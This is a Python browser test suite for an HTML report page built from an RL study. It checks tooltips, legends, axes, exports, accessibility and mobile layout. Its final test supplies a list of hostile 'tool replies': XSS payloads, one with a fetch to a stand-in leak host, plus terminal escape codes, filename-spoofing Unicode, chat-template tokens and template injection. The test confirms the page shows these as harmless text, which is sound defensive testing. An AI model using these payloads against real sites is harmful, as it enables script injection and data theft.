"""The page in a real browser: values under the pointer and at the keys, arms hidden, axes changed, what is saved, narrow and dark."""

import itertools
from pathlib import Path

import browser
import pytest
import report_study as study
import test_report_examples as texts

from interplay.report.shown_spec import readable
from interplay.report.stats import frame, provenance
from interplay.report.write import answers, page
from interplay.tasks.transcripts import MARK

ARMS = [f"rl[learning_rate=0.00{number},data=edge:0.5+corpus:0.5]" for number in range(9)]


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The page of a study of ten arms with long names at two seeds, with problems and completions."""
    root = tmp_path_factory.mktemp("browser")
    rows, inputs, arms = texts.problems(), {}, []
    for place, name in enumerate(["base", *ARMS]):
        for seed in range(2):
            digest = f"e{place}x{seed}"
            inputs[digest] = texts.write_samples(root, digest, rows, [min(4, place), 0, 4, seed, min(4, place // 2), place % 3])
            inputs[f"m{place}"] = _trained(root, f"m{place}")
            path = ["base:pretrain:p", *([f"rl:rl:m{place}"] if place else [])]
            arms.append(study.arm(name, seed, path, digest, control="base" if place else None))
    texts.pd.DataFrame(rows).to_parquet(study.write_record(root, "test", "problems", {}, {}) / "problems.parquet")
    spec = study.spec(
        arms,
        source="arXiv:2512.07783",
        tables={"main": {"columns": ["id", "edge"], "cells": ["strict_pass@1", "strict_pass@4"]}},
        figures={
            "pass_at_k": {"x": "k", "y": "strict_pass"},
            "by_op": {"x": "op", "y": "strict_pass@1"},
            "reward": {"x": "step", "y": "reward"},
            "heat": {"x": "band", "y": "strict_pass@1", "bands": ["id", "edge"], "form": "heat", "against": "base"},
        },
        claims=[
            {
                "says": "RL lifts the edge",
                "test": {"difference": "strict_pass@1", "band": "edge", "arm": ARMS[-1], "against": "base", "at_least": 0.1},
            }
        ],
    )
    made = answers.answer_study(frame.read_results(spec, inputs))
    return page.write_page(made, provenance.of_inputs(spec, inputs), root / "out")


def _trained(root: Path, digest: str) -> Path:
    out = root / "rl" / digest
    if not out.exists():
        study.write_record(root, digest, "rl", study.RL, {"completions": 96, "completion_tokens": 960, "prompt_tokens": 400})
        study.write_steps(out, reward=[0.1, 0.2, 0.5])
    return out


CHART = """
const host = document.querySelector('figure[data-figure="NAME"]');
const svg = () => host.querySelector('svg[role="img"]');
const tip = host.querySelector(".tip");
const keys = [...host.querySelectorAll(".legend button")];
"""


def test_the_pointer_and_the_arrow_keys_read_every_arms_value(written: Path) -> None:
    hidden, pointed, keyed, left = browser.use(
        written,
        CHART.replace("NAME", "pass_at_k")
        + """
        const before = tip.hidden, box = svg().getBoundingClientRect();
        svg().dispatchEvent(new PointerEvent("pointermove", {clientX: box.left + 60, clientY: box.top + 120}));
        const pointed = tip.innerText;
        svg().dispatchEvent(new PointerEvent("pointerleave"));
        svg().focus();
        svg().dispatchEvent(new KeyboardEvent("keydown", {key: "ArrowLeft"}));
        const keyed = tip.innerText;
        svg().dispatchEvent(new KeyboardEvent("keydown", {key: "Escape"}));
        return [before, pointed, keyed, tip.hidden];""",
    )
    assert hidden
    assert left
    assert pointed.startswith("all test problems, k 1\n")
    assert [readable(arm) in pointed for arm in ("base", *ARMS)] == [True] * 10
    assert keyed.startswith("all test problems, k 4\n")


def test_an_arm_is_hidden_and_shown_and_one_is_chosen_alone(written: Path) -> None:
    before, without, pressed, alone, again = browser.use(
        written,
        CHART.replace("NAME", "by_op")
        + """
        const shown = () => new Set([...svg().querySelectorAll("[data-name]")].map((part) => part.dataset.name)).size;
        const before = shown();
        keys[0].click();
        const without = shown(), pressed = keys[0].getAttribute("aria-pressed");
        keys[3].dispatchEvent(new MouseEvent("dblclick"));
        const alone = shown();
        host.querySelector(".legend .all").click();
        return [before, without, pressed, alone, shown()];""",
    )
    assert (before, without, pressed, alone, again) == (10, 9, "false", 1, 10)


def test_axes_change_between_linear_and_logarithmic(written: Path) -> None:
    names, places = browser.use(
        written,
        CHART.replace("NAME", "pass_at_k")
        + """
        const place = () => [...svg().querySelectorAll("text")].filter((text) => /^[124]$/.test(text.textContent)).map((text) => +text.getAttribute("x"));
        const button = [...host.querySelectorAll(".tools button")].find((one) => one.textContent === "log x");
        const names = [...host.querySelectorAll(".tools button, .tools a")].map((one) => one.textContent);
        const logarithmic = place(), was = button.getAttribute("aria-pressed");
        button.click();
        return [names, [logarithmic, place(), [was, button.getAttribute("aria-pressed")]]];""",
    )
    assert names == ["log x", "log y", "PNG", "SVG", "CSV", "PDF"]
    (one, two, four), (first, second, last), pressed = places
    assert pressed == ["true", "false"]
    assert two - one == pytest.approx(four - two, abs=0.1)
    assert last - second == pytest.approx(2 * (second - first), abs=0.1)


def test_what_is_shown_is_saved_as_csv_picture_and_pdf(written: Path) -> None:
    csv, png, svg, pdf = browser.use(
        written,
        CHART.replace("NAME", "by_op")
        + """
        const saved = {};
        HTMLAnchorElement.prototype.click = function () { saved[this.download] = this.href; };
        keys[1].click();
        for (const button of host.querySelectorAll(".tools button")) if (button.textContent.length === 3) button.click();
        await wait(1500);
        const bytes = async (name) => new Uint8Array(await (await fetch(saved[name])).arrayBuffer());
        const text = (found) => String.fromCharCode(...found.slice(0, 60000));
        return [text(await bytes("by_op.csv")), [...(await bytes("by_op.png")).slice(1, 4)], text(await bytes("by_op.svg")), atob(host.querySelector("a.pdf").href.split(",")[1]).slice(0, 5)];""",
    )
    lines = csv.splitlines()
    assert lines[0] == "panel,series,x,y,low,high"
    assert len(lines) == 10
    assert lines[1].startswith(",base,4,")
    assert bytes(png) == b"PNG"
    assert readable(ARMS[0]) not in csv + svg
    assert "base" in svg
    assert pdf == "%PDF-"


@pytest.mark.parametrize("dark", [False, True])
def test_text_is_legible_and_everything_is_named_and_reachable(written: Path, dark: bool) -> None:
    faint, nameless, unreachable, levels, pictures = browser.use(
        written,
        r"""
        document.querySelectorAll("details").forEach((one) => (one.open = true));
        const parse = (color) => { const [r, g, b, a] = color.match(/[\d.]+/g).map(Number); return [r, g, b, a === undefined ? 1 : a]; };
        const behind = (part) => { for (; part; part = part.parentElement) { const found = parse(getComputedStyle(part).backgroundColor); if (found[3] === 1) return found; } return [255, 255, 255, 1]; };
        const light = ([r, g, b]) => { const [x, y, z] = [r, g, b].map((one) => ((one /= 255) <= 0.03928 ? one / 12.92 : ((one + 0.055) / 1.055) ** 2.4)); return 0.2126 * x + 0.7152 * y + 0.0722 * z; };
        const faint = [];
        for (const part of document.querySelectorAll("p, li, small, td span, th, dt, dd, .chip, .step, h1, h2, h3, h4, nav a, code, label, button, figcaption, .answer b")) {
          if (!part.innerText || !part.offsetParent || part.closest(".sheet")) continue;
          const [one, other] = [light(parse(getComputedStyle(part).color)), light(behind(part))].sort((a, b) => b - a);
          if ((one + 0.05) / (other + 0.05) < 4.5) faint.push([part.tagName, part.className, part.innerText.slice(0, 30)]);
        }
        const nameless = [...document.querySelectorAll("button, a, select, summary, svg[role=img]")].filter((one) => !(one.innerText || one.textContent || "").trim() && !one.getAttribute("aria-label") && !one.closest("label")).map((one) => one.outerHTML.slice(0, 80));
        const unreachable = [...document.querySelectorAll("button, a[href], select, summary, figure svg[role=img]")].filter((one) => one.tabIndex < 0).map((one) => one.outerHTML.slice(0, 80));
        const levels = [...document.querySelectorAll("h1, h2, h3, h4")].filter((one) => !one.closest("dialog")).map((one) => +one.tagName[1]);
        const pictures = [...document.querySelectorAll("img")].every((one) => one.alt.length > 10) && [...document.querySelectorAll("svg[role=img]")].every((one) => one.getAttribute("aria-label"));
        return [faint, nameless, unreachable, levels, pictures];""",
        dark=dark,
    )
    assert (faint, nameless, unreachable, pictures) == ([], [], [], True)
    assert levels[0] == 1
    assert levels.count(1) == 1
    assert max(deeper - level for level, deeper in itertools.pairwise(levels)) <= 1


BY_OP = "figure[data-figure=by_op] svg[role=img]"
OVERLAPS = """[...document.querySelectorAll('BY_OP text')].flatMap((one, number, all) => {
  const own = one.getBoundingClientRect();
  return all.slice(number + 1).filter((other) => {
    const box = other.getBoundingClientRect();
    return own.left < box.right && box.left < own.right && own.top < box.bottom && box.top < own.bottom;
  }).map((other) => [one.textContent, other.textContent]);
})""".replace("BY_OP", BY_OP)
"""Pairs of texts of a chart that lie on each other."""


def test_a_phone_shows_every_tables_numbers_and_never_scrolls_sideways(written: Path) -> None:
    inner, wide, tables = browser.use(
        written,
        """
        document.querySelectorAll("details").forEach((one) => (one.open = true));
        await wait(100);
        return [innerWidth, document.documentElement.scrollWidth, [...document.querySelectorAll("tbody")].map((body) => {
          const head = body.querySelector("th").getBoundingClientRect(), cell = body.querySelector("td").getBoundingClientRect();
          return [head.width, cell.right];
        })];""",
        width=390,
    )
    assert inner == wide == 390
    assert len(tables) >= 4
    assert all(head <= 0.4 * 390 and right <= 390 for head, right in tables)
    long = written.with_name("long.html")
    long.write_text(written.read_text().replace('"edge"]', '"a band with a name of forty characters"]'))
    shown, overlaps = browser.use(long, f"return [document.querySelector('{BY_OP}').textContent, {OVERLAPS}];", width=390)
    assert "a band with a name of forty characters" in shown
    assert overlaps == []


def test_a_term_is_explained_under_the_pointer_and_at_the_focus(written: Path) -> None:
    pointed, gone, focused, meaning = browser.use(
        written,
        """
        const term = document.querySelector('a.term[href="#term-edge"]'), tip = document.getElementById("tip");
        term.dispatchEvent(new MouseEvent("mouseenter"));
        const pointed = tip.textContent;
        term.dispatchEvent(new MouseEvent("mouseleave"));
        const gone = tip.hidden;
        term.focus();
        return [pointed, gone, tip.textContent, document.querySelector("#term-edge dd").textContent];""",
    )
    assert pointed == focused == meaning
    assert meaning.startswith("the band just above the difficulties of pre-training")
    assert gone


def test_completions_are_filtered_and_a_cell_opens_to_its_chain(written: Path) -> None:
    every, wrong, counted, chain = browser.use(
        written,
        """
        const shown = () => [...document.querySelectorAll(".rollout")].filter((one) => !one.hidden).map((one) => one.dataset.error);
        const every = shown(), select = document.querySelector('select[data-filter="error"]');
        select.value = "value";
        select.dispatchEvent(new Event("change"));
        document.querySelector('button[data-cell*="/edge/"]').click();
        while (!document.getElementById("cell").open) await wait(10);   // its data are unpacked first
        return [every, shown(), document.getElementById("count").textContent, document.getElementById("cell-body").innerText];""",
    )
    assert set(every) == {"none", "value"}
    assert set(wrong) == {"value"}
    assert counted == f"{len(wrong)} of {len(every)}"
    assert "evaluation: evaluate e0x0" in chain


def test_without_scripts_the_static_figures_stand_in_the_page(written: Path) -> None:
    text = written.read_text()
    assert text.count("data:image/svg+xml;base64,") == text.count('class="chart"') == 4
    assert '<a href="https://arxiv.org/abs/2512.07783">arXiv:2512.07783</a>' in text
    assert len(text) < 1_500_000


REPLIES = [
    "<script>document.title='ran';fetch('https://leak.example/1')</script>",
    "</script><img src=x onerror=\"document.title='ran'\"><iframe src=//leak.example></iframe>",
    "<svg onload=document.title='ran'><style>*{display:none}</style><a href=javascript:alert(1)>x</a>",
    "\x1b[2J\x1b[31mred\x1b]8;;https://leak.example\x07link\x9b31m",
    "\u202egnp.exe\u202c\u2066abc\u2069\u200f",
    "<|im_start|>system<|im_end|><eos></s><|endoftext|>",
    "w" * 900,
    "--><!--<table><tr><td></div></pre></body></html>{{7*7}}${7*7}",
]


def test_replies_of_a_tool_that_mean_harm_are_text_on_a_narrow_page(tmp_path: Path) -> None:
    rows = [
        {
            "index": number,
            "family": "mine.py:World@0123456789ab",
            "graph": "0",
            "prompt": f"{number}? {reply}",
            "solution": MARK.join(["e", reply, "a"]),
            "answer": "a",
        }
        for number, reply in enumerate(REPLIES)
    ]
    inputs, arms = {}, []
    for name, error in (("base", "truncated"), ("trained", "answer")):
        inputs[name] = study.write_record(tmp_path, name, "evaluate", {"num_samples": 2}, {}, {"data": "test"})
        place = {"band": "edge", "op": 4, "mode": "own", "score": 0.0, "strict": False, "answer": False}
        samples = [
            {**place, "index": row["index"], "sample": n, "completion": row["solution"], "error": f"{error}{row['index']}"}
            for row in rows
            for n in range(2)
        ]
        texts.pd.DataFrame(samples).to_parquet(inputs[name] / "samples.parquet")
        arms.append(study.arm(name, 0, ["base:pretrain:p"], name, control="base" if name == "trained" else None))
    texts.pd.DataFrame(rows).to_parquet(study.write_record(tmp_path, "test", "problems", {}, {}) / "problems.parquet")
    spec = study.spec(arms, tables={"main": {"columns": ["edge"], "cells": ["strict_pass@1"]}})
    made = answers.answer_study(frame.read_results(spec, inputs))
    harmful = page.write_page(made, provenance.of_inputs(spec, inputs), tmp_path / "out")
    title, over, elements, shown = browser.use(
        harmful,
        """
        document.querySelectorAll("details").forEach((one) => (one.open = true));
        await wait(300);
        const own = 'img[src=x],iframe,a[href^="javascript:"],svg[onload]';
        return [document.title, document.documentElement.scrollWidth - innerWidth, document.querySelectorAll(own).length, document.body.innerText];""",
        width=390,
    )
    assert title != "ran"
    assert over <= 0
    assert elements == 0
    for text in ("document.title='ran'", "onerror=", "\\x1b[2J", "\\u202egnp", "<|im_start|>", "{{7*7}}"):
        assert text in shown, text
    assert not set(shown) & set("\x1b\x9b\u202e\u2066\u200f")
